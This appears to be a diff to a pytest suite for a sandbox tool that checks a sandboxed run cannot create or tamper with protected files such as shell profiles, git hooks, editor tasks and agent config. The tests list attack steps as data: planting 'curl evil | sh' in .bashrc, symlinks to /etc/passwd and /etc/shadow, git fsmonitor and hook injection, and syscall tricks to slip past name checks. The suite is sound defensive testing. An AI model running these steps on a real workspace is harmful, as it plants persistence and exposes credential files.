@@ -81,48 +81,88 @@ def attempts(cordon, ws, steps, *opts):
     return dict(zip(steps, codes)), r
 
 
-def test_git_repository_cannot_be_changed_or_replaced(cordon):
-    ws = make_repo(cordon)
-    before = tree_digest(ws / ".git")
-    steps = [
-        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
-        "git config core.fsmonitor 'touch /tmp/pwned'",
-        "git config core.hooksPath /workspace/hooks",
-        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
-        "echo '*' > .git/info/exclude",
-        "mkdir -p .git/modules/x",
-        "mv .git x",
-        "mv .git x && git init -q . && git config core.fsmonitor evil",
-        "rm -rf .git && git init -q . && test -d .git/hooks",
-        "git -c user.email=a@b -c user.name=n commit -qam evil --allow-empty",
-    ]
-    codes, r = attempts(cordon, ws, steps)
-    for step, code in codes.items():
-        assert code != 0, f"{step!r} succeeded\n{r}"
-    assert tree_digest(ws / ".git") == before
-    assert entries(ws) == [".git", "a.txt"], entries(ws)
-    assert r.result["workspace"]["read_only"] >= 1, r.result
+TMPFILE_LINK = ("python3 -c \"import os, ctypes; fd = os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o644); "
+                "os.write(fd, b'x'); r = ctypes.CDLL(None, use_errno=True).linkat(-100, "
+                "b'/proc/self/fd/%d' % fd, -100, b'.env.local', 0x400); exit(r and 1)\"")
+OPENAT2 = ("python3 -c \"import ctypes, struct; how = struct.pack('QQQ', 0o101, 0o644, 0); "
+           "r = ctypes.CDLL(None, use_errno=True).syscall(437, -100, b'.continuerc.json', how, 24); "
+           "exit(r < 0)\"")
+
+# The ways a run could make a protected name at the root, each refused as it is made.
+NAME_ATTACKS = [
+    "echo 'curl evil | sh' > .bashrc",                        # create
+    "echo x >> .profile",                                      # append, creating
+    "mkdir .claude",                                           # a directory
+    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+    "ln -s /etc/passwd .envrc",                                # a link
+    "echo x > f && ln f .zshrc",                               # a hard link
+    "echo x > g && mv g .mcp.json",                            # renamed onto
+    "mkdir -p d && echo x > d/.env && mv d/.env .env",         # made below, moved up
+    "mkdir -p e/.devcontainer && mv e/.devcontainer .",        # a directory moved up
+    "ln -s . self && echo x > self/.nvmrc",                    # through a link to the root
+    "cd d && echo x > ../.tool-versions",                      # through ..
+    "echo x > /proc/self/cwd/.exrc",                           # through a magic link
+    "python3 -c \"import os; os.mknod('.aider.conf.yml')\"",   # mknod
+    TMPFILE_LINK,                                              # O_TMPFILE, linked in
+    OPENAT2,                                                   # openat2
+    "echo K=1 > .env.production",                              # a pattern (.env*)
+    "mkdir .cordon-txn-0123456789abcdef",                      # a commit's own name
+    "echo x > d/.cordon-txn-0123456789abcdef.1",
+]
 
 
 def test_missing_protected_names_cannot_be_created(cordon):
+    """
+    No placeholder stands for a missing name any more: each way of making one
+    at the root is refused as it is made (the keeper, names.h), and the host
+    never sees it. Made below the root, the same names are the run's (a
+    clone carries .vscode): reported.
+    """
     ws = cordon.hostdir("ws")
-    steps = [
-        "echo 'curl evil | sh' > .bashrc",
-        "echo 'export PATH=/workspace/bin:$PATH' > .envrc",
-        "echo x > .profile",
-        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
-        "echo '{\"mcpServers\": {}}' > .mcp.json",
-        "mkdir -p .claude && echo '{}' > .claude/settings.json",
-        "git init -q .",
-        "rm -rf .git .bashrc",
-        "mv .vscode elsewhere",
-    ]
-    codes, r = attempts(cordon, ws, steps)
+    codes, r = attempts(cordon, ws, NAME_ATTACKS)
     for step, code in codes.items():
         assert code != 0, f"{step!r} succeeded\n{r}"
-    # The placeholders that refused them are gone with the run.
-    assert entries(ws) == [], entries(ws)
-    assert r.result["workspace"]["placeholders"] > 0, r.result
+    # What the steps made on the way (not one protected name) is all there is.
+    assert entries(ws) == ["d", "e", "f", "g", "self"], entries(ws)
+    assert os.listdir(ws / "d") == [".env"] and os.listdir(ws / "e") == [".devcontainer"], r
+    w = r.result["workspace"]
+    assert "created protected d/.env" in w["paths"], w
+    assert "placeholders" not in w, w
+
+
+def test_an_empty_workspace_stays_empty(cordon):
+    """
+    Empty before, during and after the run, as the command and the user's
+    tools see it (no placeholder); a killed cordon leaves nothing either.
+    """
+    ws = cordon.hostdir("ws")
+    go = cordon.hostdir("go")
+    p = cordon.popen(["sh", "-c", f"ls -A; echo waiting; i=0; while [ ! -e {go}/go ] && "
+                      f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; ls -A; echo done"],
+                     "-w", ws, "--ro", f"{go}:{go}")
+    try:
+        assert p.stdout.readline().decode() == "waiting\n"
+        assert entries(ws) == [], entries(ws)
+        (go / "go").touch()
+        out, err = p.communicate(timeout=60)
+        assert (p.returncode, out.decode()) == (0, "done\n"), err
+    finally:
+        if p.poll() is None:
+            os.killpg(p.pid, signal.SIGKILL)
+            p.wait()
+    assert entries(ws) == []
+    mark = marker()
+    p = cordon.popen(["sh", "-c", "echo up; sleep 30", mark], "-w", ws)
+    try:
+        assert p.stdout.readline().decode() == "up\n"
+        assert entries(ws) == []
+        os.kill(p.pid, signal.SIGKILL)
+        p.wait(timeout=10)
+        assert entries(ws) == [], entries(ws)
+    finally:
+        if p.poll() is None:
+            os.killpg(p.pid, signal.SIGKILL)
+            p.wait()
 
 
 def test_existing_protected_files_are_read_only(cordon):
@@ -139,18 +179,37 @@ def test_existing_protected_files_are_read_only(cordon):
     assert entries(ws) == [".env.local", ".envrc"], entries(ws)
 
 
-def test_new_glob_names_are_reported_not_refused(cordon):
+def test_a_protected_entry_is_not_moved_with_its_directory(cordon):
     """
-    `.env*` can only be refused where it exists: Landlock cannot refuse a
-    name, and no placeholder stands for a pattern. The run may make
-    .env.local; the result names it.
+    A directory holding a protected entry (sub/x/.envrc) cannot be renamed:
+    it would take the entry along and free its place for one of the run's
+    making, which below the root is the run's to make.
     """
     ws = cordon.hostdir("ws")
-    r = cordon.run(["sh", "-c", "echo K=1 > .env.local"], "-w", ws)
-    assert r.status == 0, r
-    assert entries(ws) == [".env.local"]
+    (ws / "sub/x").mkdir(parents=True)
+    (ws / "sub/x/.envrc").write_text("use nix\n")
+    (ws / "sub/y").write_text("y\n")
+    for n in ("sub", "sub/x", "sub/x/.envrc", "sub/y"):
+        os.chown(ws / n, cordon.ident.uid, cordon.ident.gid)
+    steps = ["mv sub s2", "mv sub/x sub/x2", "mv sub/x/.envrc sub/e",
+             "python3 -c \"import ctypes; exit(ctypes.CDLL(None).renameat2(-100, b'sub', -100, "
+             "b'other', 2))\"",  # RENAME_EXCHANGE with a directory of the run's
+             "mv sub/y sub/y2"]
+    codes, r = attempts(cordon, ws, ["mkdir other"] + steps)
+    assert [codes[s] != 0 for s in steps] == [True, True, True, True, False], r
+    assert (ws / "sub/x/.envrc").read_text() == "use nix\n"
+    assert sorted(os.listdir(ws)) == ["other", "sub"], os.listdir(ws)
+
+
+def test_glob_names_refused_at_the_root_reported_below(cordon):
+    """A pattern (.env*) is refused at the root as it is made, and reported below it."""
+    ws = cordon.hostdir("ws")
+    r = cordon.run(["sh", "-c", "echo K=1 > .env.local; echo $?; mkdir sub && echo K=1 > "
+                    "sub/.env.local"], "-w", ws)
+    assert r.status == 0 and r.out.strip() != "0", r
+    assert entries(ws) == ["sub"] and os.listdir(ws / "sub") == [".env.local"]
     w = r.result["workspace"]
-    assert w["created_protected"] == 1 and "created protected .env.local" in w["paths"], w
+    assert w["created_protected"] == 1 and "created protected sub/.env.local" in w["paths"], w
 
 
 def test_links_out_special_files_and_modes_are_undone(cordon):
@@ -182,6 +241,52 @@ def test_links_out_special_files_and_modes_are_undone(cordon):
     events = [json.loads(line) for line in audit.read_text().splitlines()]
     end = [e for e in events if e.get("type") == "run.end"]
     assert len(end) == 1 and "removed link out" in json.dumps(end[0]), end
+
+
+VENV_LINKS = {
+    # name: (target, kept after the run)
+    "venv/bin/python3": ("/usr/bin/python3", True),   # what python3 -m venv makes
+    "sys/loader": ("/lib64/ld-linux-x86-64.so.2", True),
+    "sys/sh": ("/bin/sh", True),
+    "out/passwd": ("/etc/passwd", False),
+    "out/home": ("/home/x", False),
+    "out/proc": ("/proc/self/root", False),
+    "out/climb": ("/usr/../etc/shadow", False),
+    "out/rel": ("../../outside", False),
+}
+
+
+@pytest.mark.parametrize("mode", ["direct", "overlay"])
+def test_venv_survives_and_other_links_out_do_not(cordon, mode):
+    """
+    A link into the read-only system tree the sandbox had (/usr, the
+    merged-/usr names, the loader) gives the host nothing new and is kept: a
+    venv made inside works on the host afterwards. Every other link out is
+    removed (direct) or refuses the commit (overlay).
+    """
+    ws = cordon.hostdir("ws")
+    opts = ["-w", ws] + (["--workspace-mode", "overlay"] if mode == "overlay" else [])
+    r = cordon.run(["sh", "-c", "python3 -m venv --without-pip venv && venv/bin/python3 -c 'print(1)'"], *opts)
+    assert (r.status, r.out) == (0, "1\n"), r
+    assert os.readlink(ws / "venv/bin/python3") == "/usr/bin/python3"
+    out = subprocess.run(cordon.ident.wrap([str(ws / "venv/bin/python3"), "-c",
+                                            "import sys; print(sys.prefix)"]),
+                         capture_output=True, text=True, env=cordon.ident.env())
+    assert (out.returncode, out.stdout) == (0, f"{ws}/venv\n"), out
+    script = "mkdir -p sys out && " + " && ".join(
+        f"ln -s {t} {n}" for n, (t, _) in VENV_LINKS.items() if not n.startswith("venv/"))
+    r = cordon.run(["sh", "-c", script], *opts)
+    if mode == "overlay":
+        assert r.status == 122 and r.result["transaction"]["outcome"] == "refused", r
+        assert "link leading out" in r.result["transaction"]["reason"], r
+        assert not (ws / "out").exists() and not (ws / "sys").exists()
+        return
+    assert r.status == 0, r
+    for name, (target, kept) in VENV_LINKS.items():
+        assert os.path.lexists(ws / name) == kept, (name, target)
+        if kept:
+            assert os.readlink(ws / name) == target
+    assert r.result["workspace"]["removed"] == 5, r.result
 
 
 def test_ordinary_work_still_works(cordon):
@@ -240,13 +345,17 @@ def test_host_socket_in_the_workspace_is_unreachable(cordon):
 
 
 def test_unsafe_unprotect_lets_the_run_write_git(cordon):
+    """Taken out of the protected names, .git is not checked either: its hooks are the run's."""
     ws = cordon.hostdir("ws")
     pol = cordon.hostdir("pol") / "p.yaml"
     pol.write_text("version: 1\nfilesystem:\n  unsafe_unprotect: [.git]\n")
-    r = cordon.run(["git", "init", "-q", "."], "-w", ws, "-p", pol)
+    r = cordon.run(["sh", "-c", "git init -q . && echo true > .git/hooks/post-commit && "
+                    "git config core.pager cat"], "-w", ws, "-p", pol)
     assert r.status == 0, r
-    assert (ws / ".git" / "HEAD").is_file()
+    assert (ws / ".git" / "HEAD").is_file() and (ws / ".git/hooks/post-commit").is_file()
+    assert "pager = cat" in (ws / ".git/config").read_text()
     assert entries(ws) == [".git"], entries(ws)
+    assert r.result["workspace"]["git_refused"] == 0, r.result
 
 
 def test_policy_shows_and_checks_the_list(cordon):
@@ -287,21 +396,6 @@ def test_check_says_why_each_name_is_protected(cordon):
     assert all(row["why"] and row["read_by"] for row in table["defaults"]), table
 
 
-def test_placeholders_do_not_survive_a_killed_cordon(cordon):
-    ws = cordon.hostdir("ws")
-    mark = marker()
-    p = cordon.popen(["sh", "-c", "sleep 30", mark], "-w", ws)
-    try:
-        assert wait_until(lambda: (ws / ".bashrc").exists(), 15), "no placeholder appeared"
-        os.kill(p.pid, signal.SIGKILL)
-        p.wait(timeout=10)
-        assert wait_until(lambda: entries(ws) == [], 10), entries(ws)
-    finally:
-        if p.poll() is None:
-            os.killpg(p.pid, signal.SIGKILL)
-            p.wait()
-
-
 # The names issue 22 added to the default list (`cordon check --protected`
 # says who reads each and why); a trailing '/' marks a directory.
 TOOL_NAMES = [
@@ -323,14 +417,13 @@ def write_step(name, where=""):
 
 def test_tool_config_names_cannot_be_written(cordon):
     """Each name version managers, dev containers and agent CLIs act on, made by
-    a -w run: refused inside (a read-only placeholder), nothing on the host."""
+    a -w run: refused as it is made, nothing on the host."""
     ws = cordon.hostdir("ws")
     steps = [write_step(n) for n in TOOL_NAMES]
     codes, r = attempts(cordon, ws, steps)
     for name, step in zip(TOOL_NAMES, steps):
         assert codes[step] != 0, f"{name}: {step!r} succeeded\n{r}"
     assert entries(ws) == [], entries(ws)
-    assert r.result["workspace"]["placeholders"] >= len(TOOL_NAMES), r.result
     # One that exists is read-only, and is left as it was.
     for name in (".tool-versions", ".nvmrc"):
         (ws / name).write_text("nodejs 20.0.0\n")
@@ -346,41 +439,49 @@ def test_tool_config_names_cannot_be_written(cordon):
 # --- metadata: modes, owners, times, xattrs, inode flags --------------------------
 
 
-def test_metadata_of_git_and_of_links_out_is_refused(cordon):
+def protected_tree(cordon, ws):
+    """A protected file and a protected directory with a file in it, the user's."""
+    (ws / ".envrc").write_text("use nix\n")
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode/tasks.json").write_text("{}\n")
+    for n in (".envrc", ".vscode", ".vscode/tasks.json"):
+        os.chown(ws / n, cordon.ident.uid, cordon.ident.gid)
+
+
+def test_metadata_of_protected_entries_and_links_out_is_refused(cordon):
     """
     chmod, chown, times, xattrs and inode flags, by path and on a descriptor,
-    on .git's config and hooks and through a link the run plants to a host
-    file: refused, and each keeps its mode, owner, times, xattrs and flags.
-    On the run's own files the same calls work.
+    on a protected file and directory and through a link the run plants to a
+    host file: refused, and each keeps its mode, owner, times, xattrs and
+    flags. On the run's own files the same calls work.
     """
     ws = make_repo(cordon)
+    protected_tree(cordon, ws)
     outside = cordon.hostdir("outside") / "f"
     outside.write_text("host\n")
-    refused = [ws / ".git/config", ws / ".git/hooks", outside]
+    refused = [ws / ".envrc", ws / ".vscode", outside]
     for f in refused:
         mu.prepare(f, cordon.ident.uid)
     # Its own group: the namespace level maps no other (a foreign gid is EOVERFLOW there).
     mu.prepare(ws / "a.txt", cordon.ident.uid, cordon.ident.gid)
     before = {t: mu.state(t) for t in refused}
-    tree = tree_digest(ws / ".git")
-    (ws / "d").mkdir()  # the link's place: at the process level the root takes no new entry
-    os.chown(ws / "d", cordon.ident.uid, cordon.ident.gid)
-    steps = (f"ln -s {outside} d/out\n" +
-             mu.script([".git/config", ".git/hooks", "d/out", "a.txt"], "$(id -g)") +
-             "chmod 777 .git/hooks; echo .git/hooks chmod-777 $?\n"
-             "chmod 666 .git/config; echo .git/config chmod-666 $?\n")
+    tree = tree_digest(ws / ".vscode")
+    steps = (f"mkdir d && ln -s {outside} d/out\n" +
+             mu.script([".envrc", ".vscode", "d/out", "a.txt"], "$(id -g)") +
+             "chmod 777 .vscode; echo .vscode chmod-777 $?\n"
+             "chmod 666 .envrc; echo .envrc chmod-666 $?\n")
     r = cordon.run(["sh", "-c", steps], "-w", ws)
     assert r.status == 0, r
     got = mu.codes(r.out)
     offered = mu.NOT_OFFERED.get(cordon.level, {})
-    for t in (".git/config", ".git/hooks", "d/out"):
+    for t in (".envrc", ".vscode", "d/out"):
         for op, code in got[t].items():
             if t == "d/out" and op in ("lchown", "fchmodat2-nofollow"):
                 continue  # the link itself is the run's (and has no mode)
             assert code in mu.REFUSED or code == offered.get(op), f"{op} {t}: {code}\n{r}"
     for t in refused:
         assert mu.state(t) == before[t], t
-    assert tree_digest(ws / ".git") == tree
+    assert tree_digest(ws / ".vscode") == tree
     for op, code in got["a.txt"].items():
         assert code == mu.expected(cordon.level, op, 0), f"{op} a.txt: {code}\n{r}"
     after = mu.state(ws / "a.txt")
@@ -391,33 +492,35 @@ def test_metadata_of_git_and_of_links_out_is_refused(cordon):
     assert not os.path.lexists(ws / "d/out")
 
 
-def test_post_run_scan_restores_git_modes_and_looks_inside(cordon):
+def test_post_run_scan_restores_protected_modes_and_looks_inside_git(cordon):
     """
     Should a level's boundary fail (played here by a host process while the
-    run lasts), the scan after the run gives .git's entries back the modes
-    they had before it, and inside .git removes a new link out and a FIFO
-    and strips o+w, as everywhere else in the workspace.
+    run lasts), the scan after the run gives a protected tree's entries back
+    the modes they had before it; inside .git (the run's to write) it removes
+    a new link out and a FIFO and strips o+w, as everywhere else in the
+    workspace, and a hook is the git scan's: removed.
     """
     ws = make_repo(cordon)
-    git = ws / ".git"
-    (git / "hooks/pre-commit.sample").chmod(0o755)
-    modes = {p: os.lstat(git / p).st_mode for p in ("hooks", "config", "hooks/pre-commit.sample")}
+    protected_tree(cordon, ws)
+    git, vs = ws / ".git", ws / ".vscode"
+    modes = {p: os.lstat(ws / p).st_mode for p in (".vscode", ".envrc", ".vscode/tasks.json")}
     go = cordon.hostdir("go")
     p = cordon.popen(["sh", "-c", f"echo waiting; i=0; while [ ! -e {go}/go ] && "
                       f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done"],
                      "-w", ws, "--ro", f"{go}:{go}", "--result", go / "r.json")
     try:
         assert p.stdout.readline().decode() == "waiting\n"
-        os.chmod(git / "hooks", 0o777)
-        os.chmod(git / "config", 0o666)
-        os.chmod(git / "hooks/pre-commit.sample", 0o4777)
+        os.chmod(vs, 0o777)
+        os.chmod(ws / ".envrc", 0o666)
+        os.chmod(vs / "tasks.json", 0o4777)
         os.symlink("/etc/passwd", git / "hooks/pre-push")
+        os.symlink("/etc/passwd", git / "refs/out")
         os.makedirs(git / "objects/ab", exist_ok=True)
         os.symlink("/etc/shadow", git / "objects/ab/cdef")  # among the objects, not one
         os.mkfifo(git / "fifo")
         (git / "new").write_text("x\n")
         os.chmod(git / "new", 0o666)
-        for n in ("hooks/pre-push", "objects/ab", "objects/ab/cdef", "fifo", "new"):
+        for n in ("hooks/pre-push", "refs/out", "objects/ab", "objects/ab/cdef", "fifo", "new"):
             os.lchown(git / n, cordon.ident.uid, cordon.ident.gid)
         (go / "go").touch()
         out, err = p.communicate(timeout=60)
@@ -427,12 +530,12 @@ def test_post_run_scan_restores_git_modes_and_looks_inside(cordon):
             p.kill()
             p.wait()
     for rel, mode in modes.items():
-        assert os.lstat(git / rel).st_mode == mode, (rel, oct(os.lstat(git / rel).st_mode))
-    assert not os.path.lexists(git / "hooks/pre-push")
-    assert not os.path.lexists(git / "objects/ab/cdef")
-    assert not os.path.lexists(git / "fifo")
+        assert os.lstat(ws / rel).st_mode == mode, (rel, oct(os.lstat(ws / rel).st_mode))
+    for gone in ("hooks/pre-push", "refs/out", "objects/ab/cdef", "fifo"):
+        assert not os.path.lexists(git / gone), gone
     assert os.lstat(git / "new").st_mode & 0o777 == 0o664
     w = json.loads((go / "r.json").read_text())["workspace"]
     assert (w["modes_restored"], w["removed"], w["modes_fixed"]) == (3, 3, 1), w
-    assert "restored mode of .git/config" in w["paths"], w
-    assert "removed link .git/hooks/pre-push" in w["paths"], w
+    assert "restored mode of .envrc" in w["paths"], w
+    assert "removed link .git/refs/out" in w["paths"], w
+    assert w["git"] == ["removed the hook .git/hooks/pre-push"], w
